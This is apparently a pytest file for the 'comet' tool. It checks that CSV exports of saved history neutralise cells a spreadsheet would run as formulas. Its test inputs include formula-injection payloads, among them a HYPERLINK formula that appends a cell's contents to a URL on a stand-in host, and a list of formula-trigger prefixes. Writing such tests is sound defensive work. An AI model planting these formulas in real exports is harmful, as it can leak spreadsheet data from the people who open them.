"""History's CSV export, from the page (``export``) and from ``comet history export`` (written
as it streams), neutralises every cell a spreadsheet would run as a formula, on both backends."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

from comet.core.call import Call, Route, simple_body
from comet.core.exchange import Exchange, Reply, Timing, Usage
from comet.store.history import History

ROOT = Path(__file__).resolve().parents[2]
PROMPT, REPLY, LABEL = "=HYPERLINK(\"https://example.com/?\"&A1, \"open\")", "@SUM(A1:A9)\rline two", "-1+2"


def _run() -> Exchange:
    call = Call(Route.GEMINI, "gemini-2.5-flash", simple_body(Route.GEMINI, PROMPT))
    return Exchange(call=call, base_url="https://api.cometapi.com", status=200,
                    reply=Reply(text=REPLY, finish_reason="stop", usage=Usage(input_tokens=3, output_tokens=4)),
                    error=None, timing=Timing(started_at=1_790_000_000.0, latency_ms=10.0))


def _checked(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 1
    row = rows[0]
    assert (row["prompt"], row["reply"], row["label"]) == ("'" + PROMPT, "'" + REPLY, "'" + LABEL)
    assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_history_csv_exports_neutralise_formula_cells(history_url):
    with History(history_url) as history:
        history.save(_run(), label=LABEL)
        _checked(history.export("csv"))
    where = ("--db", history_url.removeprefix("sqlite:///")) if history_url.startswith("sqlite") else (
        "--url", history_url)
    done = subprocess.run([sys.executable, "-m", "comet", "history", "export", *where, "--format", "csv"], cwd=ROOT,
                          env={"PATH": "/usr/bin:/bin", "COMET_HISTORY_DB": "", "COMET_HISTORY_URL": ""},
                          capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr
    _checked(done.stdout.decode("utf-8"))
